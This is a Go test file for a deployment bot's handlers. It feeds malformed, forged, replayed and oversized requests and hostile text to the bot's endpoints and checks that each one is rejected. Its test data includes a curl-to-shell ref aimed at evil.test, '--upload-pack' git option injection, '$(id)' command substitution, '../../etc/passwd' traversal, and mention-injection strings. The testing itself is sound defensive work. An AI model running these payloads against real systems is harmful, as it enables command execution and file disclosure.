package handlers_test

// The bad-input corpus (docs/bad-input.md): malformed, oversized, wrongly
// signed and replayed requests at the HTTP edge, and hostile text — mention
// and link injection, ref injection, unicode tricks, null bytes, huge and
// deeply nested inputs — through the whole rig. Each input gets its
// documented answer, and nothing golive sends to GitHub or Slack carries an
// active mention, a planted link or the hostile text unescaped (checked on
// the fakes' records of every request). Run with
//
//	go test -run BadInput -v ./handlers
//
// The fixed inputs are in testdata/badinput/; the large ones are made here.

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/golive-dev/golive/bot/checklist"
	"github.com/golive-dev/golive/bot/clock"
	"github.com/golive-dev/golive/bot/fakegithub"
	"github.com/golive-dev/golive/bot/fakeoidc"
	"github.com/golive-dev/golive/bot/ghclient"
	"github.com/golive-dev/golive/bot/oidc"
	"github.com/golive-dev/golive/bot/signature"
	"github.com/golive-dev/golive/bot/store"
	"github.com/golive-dev/golive/bot/store/storetest"
	"github.com/golive-dev/golive/handlers"
)

// hostile is what a person types to make golive notify or mislead others:
// Slack's special mentions, user, group and channel references, GitHub
// user and team mentions, and links in both syntaxes.
const hostile = "<!channel> <!here> <!everyone> @here @channel @everyone <@U0EVIL> <!subteam^S0EVIL> <#C0EVIL> " +
	"@acme/evil-team @evil-user [click](https://evil.test) <https://evil.test|click>"

// slackActive are the forms of hostile that act in Slack text (Slack posts
// are sent without link_names, so a bare @here is text).
var slackActive = []string{"<!channel>", "<!here>", "<!everyone>", "<@U0EVIL", "<!subteam^S0EVIL", "<#C0EVIL", "<https://evil.test"}

// githubActive matches the forms of hostile that act in GitHub Markdown
// outside code spans: mentions (a user may be called "here") and links.
var githubActive = regexp.MustCompile(`@(?:evil-user|acme/evil-team|here|channel|everyone)\b|(?:^|[^\\])\]\(https://evil\.test|<https://evil\.test`)

// invisible are characters that must never reach GitHub or Slack from
// golive: the null byte and the bidirectional overrides and isolates, which
// reorder what a reader sees.
const invisible = "\x00\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"

// outsideCode returns s without its code spans and fenced blocks (a run of
// backticks up to the next run of the same length, as CommonMark pairs
// them): text in them is shown literally and mentions nobody.
func outsideCode(s string) string {
	var b strings.Builder
	run := func(i int) int {
		j := i
		for j < len(s) && s[j] == '`' {
			j++
		}
		return j - i
	}
	for i := 0; i < len(s); {
		if s[i] != '`' {
			b.WriteByte(s[i])
			i++
			continue
		}
		n := run(i)
		closing := -1
		for k := i + n; k < len(s); {
			if s[k] != '`' {
				k++
				continue
			}
			if m := run(k); m == n {
				closing = k
				break
			} else {
				k += m
			}
		}
		if closing < 0 {
			b.WriteString(s[i : i+n])
			i += n
			continue
		}
		b.WriteByte(' ')
		i = closing + n
	}
	return b.String()
}

// strings of a JSON document, with their keys.
func jsonStrings(doc []byte) map[string][]string {
	out := map[string][]string{}
	var v any
	if json.Unmarshal(doc, &v) != nil {
		out[""] = []string{string(doc)}
		return out
	}
	var walk func(key string, v any)
	walk = func(key string, v any) {
		switch x := v.(type) {
		case string:
			out[key] = append(out[key], x)
		case []any:
			for _, e := range x {
				walk(key, e)
			}
		case map[string]any:
			for k, e := range x {
				walk(k, e)
			}
		}
	}
	walk("", v)
	return out
}

// leakReport lists what golive sent to the fakes that acts or is not
// escaped: for GitHub every string a write request carried (an issue
// body only beyond the text people wrote themselves, issue titles only for
// invisible characters: GitHub shows titles as plain text), for Slack every
// argument of every call and response_url post.
type leakReport struct {
	userBodies []string // issue bodies people wrote (sent in events)
}

func (lr *leakReport) check(t *testing.T, gh *fakegithub.Server, slackCalls func() []slackCall) {
	t.Helper()
	var leaks []string
	for _, c := range gh.Calls() {
		if c.Method == http.MethodGet || len(c.Body) == 0 {
			continue
		}
		for key, vals := range jsonStrings(c.Body) {
			for _, v := range vals {
				if c.Route == issueRoute && key == "body" {
					for _, ub := range lr.userBodies {
						if pre, _, ok := strings.Cut(ub, checklist.MarkerStart); ok && pre != "" {
							v = strings.ReplaceAll(v, pre, "")
						} else if ub != "" {
							v = strings.ReplaceAll(v, ub, "")
						}
						// Items people added to the checklist stay as they
						// wrote them (null bytes aside: golive never keeps one).
						for _, task := range checklist.ParseTaskList(strings.ReplaceAll(ub, "\x00", "\uFFFD")) {
							if task.Manual {
								v = strings.ReplaceAll(v, task.Line+"\n", "")
							}
						}
					}
				}
				if strings.ContainsAny(v, invisible) {
					leaks = append(leaks, fmt.Sprintf("GitHub %s %s %s: invisible character in %q", c.Method, c.Route, key, clipText(v)))
				}
				if key == "title" {
					continue
				}
				if m := githubActive.FindAllString(outsideCode(v), -1); len(m) > 0 {
					leaks = append(leaks, fmt.Sprintf("GitHub %s %s %s: %q active in %q", c.Method, c.Route, key, m, clipText(v)))
				}
			}
		}
	}
	for _, c := range slackCalls() {
		for k, vals := range c.params {
			if k == "link_names" {
				leaks = append(leaks, fmt.Sprintf("Slack %s: link_names=%v", c.method, vals))
			}
			for _, v := range vals {
				for _, a := range slackActive {
					if strings.Contains(v, a) {
						leaks = append(leaks, fmt.Sprintf("Slack %s %s: %q active in %q", c.method, k, a, clipText(v)))
					}
				}
				if strings.ContainsAny(v, invisible) {
					leaks = append(leaks, fmt.Sprintf("Slack %s %s: invisible character in %q", c.method, k, v))
				}
			}
		}
	}
	if len(leaks) > 0 {
		t.Errorf("%d leaks of hostile text:\n%s", len(leaks), strings.Join(leaks, "\n"))
	}
}

type slackCall struct {
	method string
	params url.Values
}

func clipText(s string) string {
	if len(s) > 400 {
		return s[:400] + "…"
	}
	return s
}

func badInput(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "testdata", "badinput", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// nested is a JSON object holding one member whose value is depth-1
// arrays deep, so the document is depth levels deep.
func nested(depth int) []byte {
	return []byte(`{"action":"opened","zen":` + strings.Repeat("[", depth-1) + strings.Repeat("]", depth-1) + `}`)
}

// TestBadInputWebhook: what POST /webhooks/github answers to malformed,
// oversized and wrongly signed deliveries, and what it keeps of them.
func TestBadInputWebhook(t *testing.T) {
	t.Run("sqlite", func(t *testing.T) { testBadWebhooks(t, storetest.SQLite(t)) })
	// PostgreSQL refuses null bytes in text; skipped without
	// GOLIVE_TEST_DATABASE_URL.
	t.Run("postgres", func(t *testing.T) { testBadWebhooks(t, storetest.Postgres(t)) })
}

func testBadWebhooks(t *testing.T, st store.Store) {
	r := newRig(t, st, 1000)
	ping := readPayload(t, "ping/event.json")
	big := bytes.Repeat([]byte(" "), handlers.MaxWebhookBody+1)
	copy(big, `{"zen":"x"}`)
	unsigned := map[string]string{}
	cases := []struct {
		name    string
		event   string
		body    []byte
		headers map[string]string // nil: signed with the webhook secret
		status  int
		outcome string               // the answer's "status"
		kept    store.DeliveryStatus // "": nothing kept
		reason  string               // the dead letter's reason contains it
	}{
		// Wrongly signed: refused before the body is looked at.
		{"unsigned", "ping", ping, unsigned, 401, "bad_signature", "", ""},
		{"signed with another secret", "ping", ping, map[string]string{"X-Hub-Signature-256": signature.SignGitHub([]byte("not-the-secret"), ping)}, 401, "bad_signature", "", ""},
		{"SHA-1 signature only", "ping", ping, map[string]string{"X-Hub-Signature": "sha1=0a4d55a8d778e5022fab701977c5d840bbc486d0"}, 401, "bad_signature", "", ""},
		{"signature of another body", "ping", ping, map[string]string{"X-Hub-Signature-256": signature.SignGitHub(webhookSecret, []byte("{}"))}, 401, "bad_signature", "", ""},
		{"empty signature", "ping", ping, map[string]string{"X-Hub-Signature-256": "sha256="}, 401, "bad_signature", "", ""},
		{"signature not hex", "ping", ping, map[string]string{"X-Hub-Signature-256": "sha256=" + strings.Repeat("zz", 32)}, 401, "bad_signature", "", ""},
		{"signature without its scheme", "ping", ping, map[string]string{"X-Hub-Signature-256": strings.TrimPrefix(signature.SignGitHub(webhookSecret, ping), "sha256=")}, 401, "bad_signature", "", ""},
		// Signed, but not a JSON object: kept as a dead letter with the reason.
		{"empty body", "issues", badInput(t, "webhook/empty.json"), nil, 400, "malformed", store.DeliveryDead, "not a JSON object"},
		{"truncated JSON", "issues", badInput(t, "webhook/truncated.json"), nil, 400, "malformed", store.DeliveryDead, "unterminated string"},
		{"two documents", "issues", badInput(t, "webhook/two-documents.json"), nil, 400, "malformed", store.DeliveryDead, "data after the top-level value"},
		{"single quotes", "issues", badInput(t, "webhook/single-quotes.json"), nil, 400, "malformed", store.DeliveryDead, "expected a member name"},
		{"unquoted key", "issues", badInput(t, "webhook/unquoted-key.json"), nil, 400, "malformed", store.DeliveryDead, "expected a member name"},
		{"comment in JSON", "issues", badInput(t, "webhook/comment.json"), nil, 400, "malformed", store.DeliveryDead, "expected ',' or '}'"},
		{"NaN", "issues", badInput(t, "webhook/nan.json"), nil, 400, "malformed", store.DeliveryDead, "unexpected 'N'"},
		{"byte order mark", "issues", badInput(t, "webhook/bom.json"), nil, 400, "malformed", store.DeliveryDead, "not a JSON object"},
		{"top-level array", "issues", badInput(t, "webhook/array.json"), nil, 400, "malformed", store.DeliveryDead, "not a JSON object"},
		{"top-level null", "issues", badInput(t, "webhook/null.json"), nil, 400, "malformed", store.DeliveryDead, "not a JSON object"},
		{"raw newline in a string", "issues", badInput(t, "webhook/raw-newline.json"), nil, 400, "malformed", store.DeliveryDead, "control character in a string"},
		{"raw null byte in a string", "issues", badInput(t, "webhook/raw-nul.json"), nil, 400, "malformed", store.DeliveryDead, "control character in a string"},
		{"bad escape", "issues", badInput(t, "webhook/bad-escape.json"), nil, 400, "malformed", store.DeliveryDead, "bad escape"},
		{"form-encoded payload", "issues", badInput(t, "webhook/form-encoded.txt"), nil, 400, "malformed", store.DeliveryDead, "not a JSON object"},
		{"nested 10,001 levels", "issues", nested(10001), nil, 400, "malformed", store.DeliveryDead, "nested too deeply"},
		{"nested 1,000,000 levels", "issues", nested(1000000), nil, 400, "malformed", store.DeliveryDead, "nested too deeply"},
		// Signed and valid JSON: accepted as GitHub sent it; handlers decide.
		{"escaped null byte", "issues", badInput(t, "webhook/escaped-nul.json"), nil, 202, "accepted", store.DeliveryPending, ""},
		{"invalid UTF-8 in a string", "issues", badInput(t, "webhook/invalid-utf8.json"), nil, 202, "accepted", store.DeliveryPending, ""},
		{"duplicate keys", "issues", badInput(t, "webhook/duplicate-keys.json"), nil, 202, "accepted", store.DeliveryPending, ""},
		{"installation id out of range", "issues", badInput(t, "webhook/huge-installation-id.json"), nil, 202, "accepted", store.DeliveryPending, ""},
		{"nested 10,000 levels", "issues", nested(10000), nil, 202, "accepted", store.DeliveryPending, ""},
		// Headers.
		{"no X-GitHub-Event", "", ping, nil, 400, "malformed", "", ""},
		// Size: refused while reading, before the signature.
		{"25 MiB + 1 byte", "ping", big, nil, 413, "too_large", "", ""},
	}
	for i, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			id := fmt.Sprintf("bad-%d", i)
			d := delivery{id: id, event: tc.event, body: tc.body, headers: tc.headers}
			if tc.headers == nil {
				d = signed(id, tc.event, tc.body)
			}
			start := time.Now()
			code, resp := r.post(t, d)
			var answer struct{ Status, Message string }
			json.Unmarshal([]byte(resp), &answer)
			if code != tc.status || answer.Status != tc.outcome {
				t.Fatalf("%d %s, want %d %q", code, resp, tc.status, tc.outcome)
			}
			if took := time.Since(start); took > 10*time.Second {
				t.Errorf("answered after %s", took)
			}
			row, err := r.store.GetDelivery(context.Background(), id)
			switch {
			case tc.kept == "" && err == nil:
				t.Fatalf("refused delivery kept as %s", row.Status)
			case tc.kept != "" && err != nil:
				t.Fatalf("no %s row: %v", tc.kept, err)
			case tc.kept != "" && (row.Status != tc.kept || !strings.Contains(row.LastError, tc.reason) || !bytes.Equal(row.Payload, tc.body)):
				t.Fatalf("row %s %q, want %s with %q and the body as sent", row.Status, row.LastError, tc.kept, tc.reason)
			}
			t.Logf("%d %s %s", code, answer.Status, answer.Message)
		})
	}

	t.Run("25 MiB + 1 byte, chunked", func(t *testing.T) {
		pr, pw := io.Pipe()
		go func() { pw.Write(big); pw.Close() }()
		req, _ := http.NewRequest(http.MethodPost, r.server.URL+"/webhooks/github", pr)
		req.Header.Set("X-GitHub-Event", "ping")
		req.Header.Set("X-GitHub-Delivery", "big-chunked")
		req.Header.Set("X-Hub-Signature-256", signature.SignGitHub(webhookSecret, big))
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusRequestEntityTooLarge {
			t.Fatalf("%d, want 413", resp.StatusCode)
		}
	})

	// The same X-GitHub-Delivery again, even with another signed body: a
	// duplicate, nothing of the new body is kept.
	t.Run("delivery id reused with another body", func(t *testing.T) {
		if code, _ := r.post(t, signed("reused", "ping", ping)); code != http.StatusAccepted {
			t.Fatalf("first: %d", code)
		}
		other := []byte(`{"zen":"something else","hook_id":1}`)
		if code, resp := r.post(t, signed("reused", "ping", other)); code != http.StatusOK || !strings.Contains(resp, "duplicate") {
			t.Fatalf("second: %d %s, want 200 duplicate", code, resp)
		}
		if row, _ := r.store.GetDelivery(context.Background(), "reused"); !bytes.Equal(row.Payload, ping) {
			t.Fatalf("the reused id's payload was replaced")
		}
	})
}

// slackForm is a signed slash command's body.
func slackForm(user, text, trigger string) string {
	v := url.Values{"command": {"/golive"}, "text": {text}, "user_id": {user}, "team_id": {"T1"}, "channel_id": {"CDEPLOYS"},
		"channel_name": {"deploys"}, "response_url": {"https://hooks.slack.test/r/1"}}
	if trigger != "" {
		v.Set("trigger_id", trigger)
	}
	return v.Encode()
}

// TestBadInputSlack: what the Slack endpoints answer to wrongly signed,
// replayed, oversized and malformed requests, and what they keep.
func TestBadInputSlack(t *testing.T) {
	r := newRig(t, storetest.SQLite(t), 1000)
	cmds, inters := r.server.URL+"/slack/commands", r.server.URL+"/slack/interactions"
	at := func(d time.Duration) string { return strconv.FormatInt(r.clock.Now().Add(d).Unix(), 10) }
	sign := func(ts, body string) string { return signature.SignSlack([]byte(slackSecret), ts, []byte(body)) }
	now := at(0)
	good := slackForm("U1", "help", "trigger-good")
	oversized := slackForm("U1", strings.Repeat("x", 1<<20), "trigger-big")
	interaction := func(payload string) string { return "payload=" + url.QueryEscape(payload) }
	deep := interaction(`{"type":"block_actions","x":` + strings.Repeat("[", 10001) + strings.Repeat("]", 10001) + `}`)
	cases := []struct {
		name, url, ts, sig, body string
		contentType              string // "" is the form type
		status                   int
		answer                   string // the answer contains it
	}{
		{"signed command", cmds, now, sign(now, good), good, "", 200, "golive is on it"},
		{"unsigned", cmds, now, "", good, "", 401, "invalid slack signature"},
		{"no timestamp", cmds, "", sign(now, good), good, "", 401, "invalid slack signature"},
		{"signed with another secret", cmds, now, signature.SignSlack([]byte("not-the-secret"), now, []byte(good)), good, "", 401, "signature does not match"},
		{"v1 scheme", cmds, now, "v1=" + strings.TrimPrefix(sign(now, good), "v0="), good, "", 401, "invalid slack signature"},
		{"tampered body", cmds, now, sign(now, good), good + "&x=1", "", 401, "signature does not match"},
		{"timestamp not a number", cmds, "yesterday", sign("yesterday", good), good, "", 401, "not Unix seconds"},
		{"signed 6 minutes ago (replay)", cmds, at(-6 * time.Minute), sign(at(-6*time.Minute), good), good, "", 401, "replay window"},
		{"signed 6 minutes ahead", cmds, at(6 * time.Minute), sign(at(6*time.Minute), good), good, "", 401, "replay window"},
		{"signature reused with another timestamp", cmds, at(-time.Minute), sign(now, good), good, "", 401, "signature does not match"},
		{"1 MiB + form body", cmds, now, sign(now, oversized), oversized, "", 413, "too large"},
		{"bad percent-encoding", cmds, now, sign(now, "command=%2Fgolive&text=%zz"), "command=%2Fgolive&text=%zz", "", 400, "malformed form body"},
		{"no user_id or response_url", cmds, now, sign(now, "command=%2Fgolive&text=help"), "command=%2Fgolive&text=help", "", 400, "needs command, user_id and response_url"},
		{"JSON instead of a form", cmds, now, sign(now, `{"command":"/golive"}`), `{"command":"/golive"}`, "application/json", 400, "needs command, user_id and response_url"},
		{"interaction not JSON", inters, now, sign(now, "payload=notjson"), "payload=notjson", "", 400, "must hold an interaction"},
		{"interaction without a type", inters, now, sign(now, interaction(`{}`)), interaction(`{}`), "", 400, "must hold an interaction"},
		{"interaction nested 10,001 levels", inters, now, sign(now, deep), deep, "", 400, "must hold an interaction"},
		{"interaction 1 MiB +", inters, now, sign(now, oversized), oversized, "", 413, "too large"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			req, _ := http.NewRequest(http.MethodPost, tc.url, strings.NewReader(tc.body))
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			if tc.contentType != "" {
				req.Header.Set("Content-Type", tc.contentType)
			}
			if tc.ts != "" {
				req.Header.Set("X-Slack-Request-Timestamp", tc.ts)
			}
			if tc.sig != "" {
				req.Header.Set("X-Slack-Signature", tc.sig)
			}
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != tc.status || !strings.Contains(string(b), tc.answer) {
				t.Fatalf("%d %q, want %d with %q", resp.StatusCode, b, tc.status, tc.answer)
			}
			t.Logf("%d %s", resp.StatusCode, strings.TrimSpace(string(b)))
		})
	}
	// Only the signed command was kept.
	if n, _ := r.store.CountDeliveries(context.Background(), store.DeliveryPending); n != 1 {
		t.Fatalf("%d commands kept, want the one signed command", n)
	}

	// The same signed request again within the window (Slack retries, or
	// someone replays it): acknowledged, kept once, so it runs once — with
	// or without a trigger_id.
	t.Run("same signature reused within the window", func(t *testing.T) {
		noTrigger := slackForm("U1", "status", "")
		for _, body := range []string{good, noTrigger} {
			for range 3 {
				if code, resp := postSlack(t, cmds, now, sign(now, body), body); code != http.StatusOK {
					t.Fatalf("replayed command: %d %s", code, resp)
				}
			}
		}
		if n, _ := r.store.CountDeliveries(context.Background(), store.DeliveryPending); n != 2 {
			t.Fatalf("%d commands kept after replays, want 2 (one each)", n)
		}
		// Six minutes on, the same signature no longer works.
		r.clock.Advance(6 * time.Minute)
		if code, _ := postSlack(t, cmds, now, sign(now, good), good); code != http.StatusUnauthorized {
			t.Fatalf("the signature after the window: %d, want 401", code)
		}
	})
}

// hostileConfig is the tracked repository's golive.yml for the hostile
// inputs: Slack users allowed on staging, a thread channel, an on-call
// group.
const hostileConfig = `version: 1
slack:
  channel: "#deploys"
environments:
  staging:
    workflow: deploy.yml
    slack_users: [U0ALLOWED]
  production:
    production: true
    workflow: deploy.yml
    rollback_workflow: rollback.yml
incidents:
  oncall: S0ONCALL
`

// TestBadInputHostileText sends hostile text everywhere people type:
// comments, issue forms and bodies, slash commands and the Action's
// reports. Each gets its answer, refs that are not refs are never
// dispatched, and nothing acts on GitHub or Slack.
func TestBadInputHostileText(t *testing.T) {
	t.Run("sqlite", func(t *testing.T) { testHostileText(t, nil) })
	// PostgreSQL refuses null bytes in text; skipped without
	// GOLIVE_TEST_DATABASE_URL.
	t.Run("postgres", func(t *testing.T) { testHostileText(t, storetest.Postgres(t)) })
}

func testHostileText(t *testing.T, st store.Store) {
	tr := newTrackingRigWith(t, rigOptions{store: st, reminders: true})
	tr.withWorkflows(t)
	tr.gh.PutFile(trackedRepo, ".github/golive.yml", hostileConfig)
	tr.storeInstallation(t)
	tr.gh.SetPermission(trackedRepo, "walt", "write", "write")
	tr.gh.SetPermission(trackedRepo, "tia", "triage", "triage")
	tr.gh.SetPermission(trackedRepo, "mona", "write", "maintain")
	lr := &leakReport{}
	ctx := context.Background()

	// Comments. want is what the reply says ("" for no reply check).
	tr.gh.AddIssue(trackedRepo, fakegithub.Issue{Number: 70, Title: "Release " + hostile})
	comments := []struct {
		name, sender, text, want string
	}{
		{"lock reason with mentions and links", "walt", "/golive lock staging " + hostile, "is locked by @\u200bwalt"},
		{"status shows the reason", "walt", "/golive status", "&lt;!channel&gt;"},
		{"unlock", "walt", "/golive unlock staging", "unlocked"},
		{"lock reason with an RTL override", "walt", "/golive lock staging deploy \u202eproduction", "control or non-printing character"},
		{"lock reason with a zero-width space", "walt", "/golive lock staging a\u200bb", "control or non-printing character"},
		{"lock reason with a null byte", "walt", "/golive lock staging a\x00b", "control or non-printing character"},
		{"incident title with mentions and links", "tia", "/golive incident P2 " + hostile, "Opened P2 incident"},
		{"incident title with an RTL override", "tia", "/golive incident P3 checkout \u202enwod si", "control or non-printing character"},
		{"incident title with a null byte", "tia", "/golive incident P3 checkout\x00down", "control or non-printing character"},
		{"incident title with a zero-width joiner (emoji)", "tia", "/golive incident P3 \U0001F9D1\u200d\U0001F4BB laptops down", "Opened P3 incident"},
		{"unknown command made of mentions", "walt", "/golive " + hostile, "unknown command"},
		{"environment made of a mention", "walt", "/golive deploy <!channel>", "is not an environment name"},
		{"ref --upload-pack as a flag", "walt", "/golive deploy staging --upload-pack=/tmp/x", "unknown flag"},
		{"ref --upload-pack quoted", "walt", `/golive deploy staging "--upload-pack=/tmp/x"`, `it starts with "-"`},
		{"ref refs/heads/../", "walt", "/golive deploy staging refs/heads/../../etc/passwd", `it contains ".."`},
		{"ref outside heads and tags", "walt", "/golive deploy staging refs/remotes/origin/main", "only refs/heads/ and refs/tags/"},
		{"ref $(…)", "walt", "/golive deploy staging $(id)", "is no branch, tag or commit"},
		{"ref $(…) with a space", "walt", `/golive deploy staging "$(curl evil.test|sh)"`, "it contains a space"},
		{"ref in backticks", "walt", "/golive deploy staging `id`", "backticks are not part of a command"},
		{"ref with a null byte", "walt", "/golive deploy staging ma\x00in", "control character"},
		{"ref with an RTL override", "walt", "/golive deploy staging main\u202e", "non-printing character"},
		{"ref with a zero-width space", "walt", "/golive deploy staging ma\u200bin", "non-printing character"},
		{"ref HEAD~1", "walt", "/golive deploy staging HEAD~1", `it contains '~'`},
		{"ref @{-1}", "walt", "/golive deploy staging @{-1}", "at sign followed by {"},
		{"ref that is a mention", "walt", "/golive deploy staging @evil-user", "is no branch, tag or commit"},
		{"ref of 201 bytes", "walt", "/golive deploy staging " + strings.Repeat("a", 201), "longer than 200 bytes"},
		{"ref on a second line", "walt", "/golive deploy staging main\n--upload-pack=/tmp/x", "Deploying"},
		{"production lock reason with mentions and links", "mona", "/golive lock production " + hostile, "is locked by @\u200bmona"},
	}
	for _, c := range comments {
		before := len(tr.replies(70))
		tr.command(t, 70, c.sender, "", c.text)
		tr.settle(t)
		r := tr.replies(70)
		if len(r) != before+1 && !strings.HasPrefix(c.text, "/golive incident") {
			t.Errorf("%s: %d replies, want one more", c.name, len(r)-before)
			continue
		}
		if !strings.Contains(r[len(r)-1], c.want) {
			t.Errorf("%s: reply %q, want %q", c.name, r[len(r)-1], c.want)
		}
	}
	// A deployment to the locked environment is rejected naming the reason.
	main, _ := tr.gh.Branch(trackedRepo, "main")
	run := tr.gh.AddWorkflowRun(trackedRepo, fakegithub.WorkflowRun{Event: "push", Status: "waiting", Actor: "walt"})
	tr.sendProtection(t, "hostile-gate", tr.protectionEvent(t, run.ID, "production", main, "refs/heads/main", "walt"))
	tr.settle(t)
	if rs := tr.reviewsOf(run.ID); len(rs) != 1 || rs[0].State != "rejected" || !strings.Contains(rs[0].Comment, "evil-team") {
		t.Errorf("deployment to the locked environment: %+v, want one rejection naming the reason", rs)
	}
	tr.command(t, 70, "mona", "", "/golive unlock production")
	tr.settle(t)
	// One dispatch: the last comment's first line, for main.
	ds := tr.gh.Dispatches()
	if len(ds) != 1 || ds[0].Ref != "main" || fmt.Sprint(ds[0].Inputs["ref"]) != "main" {
		t.Fatalf("dispatches %+v, want only the deploy of main", ds)
	}

	// Issue forms and bodies.
	release := strings.Replace(formBody(inTenDays()), "v1.2.0", hostile+" \u202eevil\x00", 1)
	release = strings.Replace(release, "_No response_", hostile, 1)
	forms := []struct {
		name   string
		number int
		body   string
		want   string // the problem comment contains it; "" when tracked
	}{
		{"release and notes with mentions, RTL and a null byte", 171, release, ""},
		{"go-live time with mentions", 172, strings.Replace(formBody(inTenDays()), "### Go-live time\n\n", "### Go-live time\n\n"+hostile+" ", 1), "is not a time"},
		{"release captain a team", 173, strings.Replace(formBody(inTenDays()), "@alice", "@acme/evil-team", 1), "is not a GitHub login"},
		{"Slack channel a mention", 174, strings.Replace(formBody(inTenDays()), "#deploys", "<!channel>", 1), "is not a Slack channel"},
		{"environment a mention", 175, strings.Replace(formBody(inTenDays()), "### Environment\n\nproduction", "### Environment\n\n@evil-user", 1), "is not an environment"},
		{"timezone with an RTL override", 176, strings.Replace(formBody(inTenDays()), "Europe/Berlin", "Europe/\u202eBerlin", 1), "is not an IANA time zone"},
	}
	for _, f := range forms {
		lr.userBodies = append(lr.userBodies, f.body)
		tr.gh.AddIssue(trackedRepo, fakegithub.Issue{Number: f.number, Title: "Go-live " + hostile, Body: f.body, Labels: []string{"golive"}})
		tr.send(t, "", tr.issueEvent(t, "opened", f.number, f.body, nil, "alice"))
		tr.settle(t)
		cs := tr.gh.Comments(trackedRepo, f.number)
		if len(cs) != 1 {
			t.Errorf("%s: %d comments, want one", f.name, len(cs))
			continue
		}
		if f.want == "" && !strings.HasPrefix(cs[0].Body, "<!-- golive:tracker -->") || f.want != "" && !strings.Contains(cs[0].Body, f.want) {
			t.Errorf("%s: comment %q, want %q", f.name, cs[0].Body, f.want)
		}
	}
	// A hand-added item with mentions, an RTL override and a null byte.
	is, _ := tr.gh.GetIssue(trackedRepo, 171)
	edited := strings.Replace(is.Body, checklist.MarkerEnd, "- [ ] ping "+hostile+" \u202eevil\x00 — @evil-user\n"+checklist.MarkerEnd, 1)
	lr.userBodies = append(lr.userBodies, edited)
	tr.send(t, "", tr.issueEvent(t, "edited", 171, edited, &is.Body, "alice"))
	tr.settle(t)

	// Slash commands; the answer goes to the response_url.
	slash := []struct{ name, user, text, want string }{
		{"lock reason with mentions and links", "U0ALLOWED", trackedRepo + " lock staging " + hostile, "is locked by slack:U0ALLOWED"},
		{"unlock", "U0ALLOWED", trackedRepo + " unlock staging", "unlocked"},
		{"lock reason as Slack escapes it", "U0ALLOWED", trackedRepo + " lock staging &lt;!channel&gt; &lt;@U0EVIL&gt;", "is locked by slack:U0ALLOWED"},
		{"incident title with mentions", "U0REPORTER", trackedRepo + " incident P1 " + hostile, "Opened P1 incident"},
		{"unknown command made of mentions", "U0ALLOWED", hostile, "unknown command"},
		{"ref --upload-pack on a second line", "U0ALLOWED", trackedRepo + " deploy staging main\n--upload-pack=/tmp/x", "unknown flag"},
		{"unlock again", "U0ALLOWED", trackedRepo + " unlock staging", "unlocked"},
		{"ref $(…)", "U0ALLOWED", trackedRepo + " deploy staging $(id)", "is no branch, tag or commit"},
		{"ref with a null byte", "U0ALLOWED", trackedRepo + " deploy staging ma\x00in", "control character"},
		{"status", "U0SOMEONE", trackedRepo + " status", "Go-live #"},
	}
	for i, s := range slash {
		id := fmt.Sprintf("slash-%d", i)
		if code, _ := tr.slackCommand(t, s.user, s.text, tr.slack.ResponseURL(id)); code != http.StatusOK {
			t.Errorf("%s: %d", s.name, code)
		}
		tr.settle(t)
		got := tr.slack.Responses(id)
		if len(got) != 1 || !strings.Contains(got[0].Text, s.want) {
			t.Errorf("%s: answers %+v, want one with %q", s.name, got, s.want)
		}
	}
	if n := len(tr.gh.Dispatches()); n != 1 {
		t.Fatalf("slash commands dispatched %d workflows", n-1)
	}

	// Reports from the Action: the reason goes to the go-live's thread.
	ar := actionEndpoint(t, tr)
	g, err := tr.store.GetGoLive(ctx, trackedRepoID, 171)
	if err != nil {
		t.Fatal(err)
	}
	waitThread(t, tr, g.ID)
	tok := ar.token(t, actionsAudience)
	events := []struct {
		name   string
		body   string
		status int
		want   string
	}{
		{"watch reason with mentions", fmt.Sprintf(`{"kind":"watch","issue":171,"reason":%q}`, hostile), 202, "accepted"},
		{"watch reason with a null byte and an RTL override", `{"kind":"watch","issue":171,"reason":"error rate\u0000 \u202e%5 < 1"}`, 400, "control or non-printing character"},
		{"not JSON", `kind=watch`, 400, "not an action event"},
		{"nested 10,001 levels", `{"kind":` + strings.Repeat("[", 10001) + strings.Repeat("]", 10001) + `}`, 400, "not an action event"},
		{"unknown field", `{"kind":"report","issue":171,"outcome":"success","repo":"acme/other"}`, 400, "unknown field"},
		{"environment with a newline", `{"kind":"report","environment":"staging\n<!channel>","outcome":"success"}`, 400, "not an environment name"},
		{"sha $(…)", `{"kind":"report","issue":171,"outcome":"success","sha":"$(id)"}`, 400, "not a commit SHA"},
		{"rollback workflow ../", `{"kind":"watch","issue":171,"reason":"x","rollback":"../../evil.yml"}`, 400, "not a workflow file name"},
		{"64 KiB + body", `{"kind":"watch","issue":171,"reason":"` + strings.Repeat("x", 64<<10) + `"}`, 413, "larger than 64 KiB"},
	}
	for _, ev := range events {
		req, _ := http.NewRequest(http.MethodPost, ar.url, strings.NewReader(ev.body))
		req.Header.Set("Authorization", "Bearer "+tok)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != ev.status || !strings.Contains(string(b), ev.want) {
			t.Errorf("%s: %d %s, want %d with %q", ev.name, resp.StatusCode, b, ev.status, ev.want)
		}
	}
	tr.settle(t)
	replies := 0
	for _, m := range tr.slack.Messages("CDEPLOYS") {
		if m.ThreadTS != "" && strings.Contains(m.Text, "Rollback trigger tripped") {
			replies++
		}
	}
	if replies != 1 {
		t.Errorf("%d watch replies in the thread, want 1", replies)
	}

	lr.check(t, tr.gh, func() []slackCall { return slackCallsOf(tr) })
	if v := tr.gh.Violations(); len(v) != 0 {
		t.Fatalf("requests outside GitHub's OpenAPI description: %+v", v)
	}
}

func slackCallsOf(tr *trackingRig) []slackCall {
